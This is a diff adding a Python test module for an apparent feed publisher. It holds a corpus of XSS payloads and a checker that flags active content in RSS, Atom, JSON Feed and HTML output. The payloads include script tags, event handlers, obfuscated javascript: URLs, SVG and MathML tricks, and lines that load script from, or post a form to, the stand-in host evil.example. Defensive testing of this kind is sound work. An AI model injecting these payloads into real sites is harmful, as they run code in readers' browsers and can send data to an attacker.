@@ -1,0 +1,159 @@
+"""An XSS payload corpus and a checker for active content in published files.
+
+:data:`XSS_PAYLOADS` are article-body HTML fragments a hostile or broken CMS could
+serve: script tags, event handlers, ``javascript:``/``data:`` URLs, SVG and MathML
+tricks, broken markup, iframes, objects, forms, styles, entity-obfuscated schemes and
+XML-forbidden characters. :func:`find_active_content` looks at a published file (RSS,
+Atom, JSON Feed or the HTML index) the way a reader would: it takes every piece of HTML
+the file carries (escaped HTML in XML, ``content_html`` in JSON, the page itself) and
+reports anything that could run or load active content. The tests plant the corpus in
+articles and require no finding; the end-to-end test against the replica's ``--xss``
+mode reuses both.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+
+import lxml.html
+from lxml import etree
+
+XSS_PAYLOADS: tuple[str, ...] = (
+    "<script>alert('xss-script')</script>",
+    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
+    '<img src="x" onerror="alert(\'xss-onerror\')">',
+    "<img src=x OnError=alert(1)//",
+    "<a href=\"javascript:alert('xss-js-link')\">bấm vào đây</a>",
+    '<a href="JaVaScRiPt:alert(1)">hoa thường</a>',
+    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ncr</a>',
+    '<a href=" javascript:alert(1)">space</a>',
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    "<svg onload=alert('xss-svg')><circle r=1 /></svg>",
+    '<svg><script>alert("svg-script")</script></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
+    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
+    "</table></mtext></math>",
+    "<iframe src=\"https://evil.example/\" onload=alert('xss-iframe')></iframe>",
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<form action="https://evil.example/steal"><input name="p"><button>Gửi</button></form>',
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    '<p style="background-image:url(javascript:alert(1))">styled</p>',
+    '<div onmouseover="alert(1)">hover</div>',
+    '<body onload=alert("body")>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "<p>broken <b>markup <i>never closed <script>alert('unclosed')",
+    '<p title="</p><script>alert(1)</script>">attribute breakout</p>',
+    "<!--<script>alert('comment')</script>-->",
+    "<![CDATA[<script>alert('cdata')</script>]]>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<template><script>alert("template")</script></template>',
+    '<video><source onerror="alert(1)"></video>',
+    "<details open ontoggle=alert(1)>",
+    '<a href="/Uploads/files/ok.pdf" target="_blank">relative link</a>',
+    "<p>control chars: \x01\x08\x0b\x0c\x1f and &#1; &#x0B; end ]]> done</p>",
+)
+
+_ACTIVE_TAGS = frozenset(
+    {
+        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
+        "form", "input", "button", "textarea", "select", "svg", "math", "base", "meta",
+        "link", "noscript", "template", "audio", "video", "source", "details",
+    }
+)  # fmt: skip
+_URL_ATTRS = frozenset(
+    {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcdoc",
+     "xlink:href", "srcset", "lowsrc", "dynsrc"}
+)  # fmt: skip
+_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|file):", re.IGNORECASE)
+_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
+#: Elements whose text readers render as HTML: RSS description and content:encoded
+#: (HTML by convention), Atom content/summary/title when type="html".
+_RSS_HTML = frozenset({"{http://purl.org/rss/1.0/modules/content/}encoded", "description"})
+_ATOM_NS = "http://www.w3.org/2005/Atom"
+
+
+def _html_findings(html: str, where: str, page: bool = False) -> Iterator[str]:
+    if not html.strip():
+        return
+    root = (
+        lxml.html.document_fromstring(html)
+        if page
+        else lxml.html.fragment_fromstring(html, create_parent="div")
+    )
+    for el in root.iter():
+        if not isinstance(el.tag, str):
+            continue
+        tag = el.tag.lower()
+        if tag in _ACTIVE_TAGS:
+            allowed_head = page and (
+                (
+                    tag == "meta"
+                    and set(el.attrib) <= {"charset", "name", "content"}
+                    and el.get("name") in (None, "viewport")
+                )
+                or (tag == "link" and el.get("rel") == "alternate")
+            )
+            if not allowed_head:
+                yield f"{where}: <{tag}> element"
+        for name, value in el.attrib.items():
+            lname = str(name).lower()
+            if lname.startswith("on"):
+                yield f"{where}: {lname}= attribute on <{tag}>"
+            elif lname == "style":
+                yield f"{where}: style= attribute on <{tag}>"
+            elif (lname in _URL_ATTRS or lname.endswith("href")) and _BAD_SCHEME.match(
+                _INVISIBLE.sub("", value)
+            ):
+                yield f"{where}: {lname}={value[:40]!r} on <{tag}>"
+
+
+def find_active_content(data: bytes, kind: str) -> list[str]:
+    """Active content found in a published file; ``kind`` is ``rss``, ``atom``,
+    ``json`` or ``html``. An empty list means the file is clean."""
+    findings: list[str] = []
+    if kind in ("rss", "atom"):
+        root = etree.fromstring(data)
+        for el in root.iter():
+            if not isinstance(el.tag, str):
+                continue
+            local = etree.QName(el).localname.lower()
+            if local in _ACTIVE_TAGS and etree.QName(el).namespace in (
+                None,
+                "http://www.w3.org/1999/xhtml",
+                "http://www.w3.org/2000/svg",
+            ):
+                findings.append(f"XML element <{local}> in the feed")
+            is_html = (
+                el.tag in _RSS_HTML
+                if kind == "rss"
+                else (etree.QName(el).namespace == _ATOM_NS and el.get("type") == "html")
+            )
+            if is_html and el.text:
+                findings += _html_findings(el.text, f"<{local}>")
+            for name, value in el.attrib.items():
+                if _BAD_SCHEME.match(_INVISIBLE.sub("", value)):
+                    findings.append(f"<{local} {name}={value[:40]!r}>")
+    elif kind == "json":
+        document = json.loads(data)
+        for index, item in enumerate(document.get("items", [])):
+            if isinstance(item.get("content_html"), str):
+                findings += _html_findings(item["content_html"], f"items[{index}].content_html")
+            for key in ("url", "external_url", "image", "banner_image"):
+                value = item.get(key)
+                if isinstance(value, str) and _BAD_SCHEME.match(_INVISIBLE.sub("", value)):
+                    findings.append(f"items[{index}].{key}={value[:40]!r}")
+    elif kind == "html":
+        findings += _html_findings(data.decode("utf-8"), "page", page=True)
+    else:
+        raise ValueError(f"unknown kind {kind!r}")
+    return findings
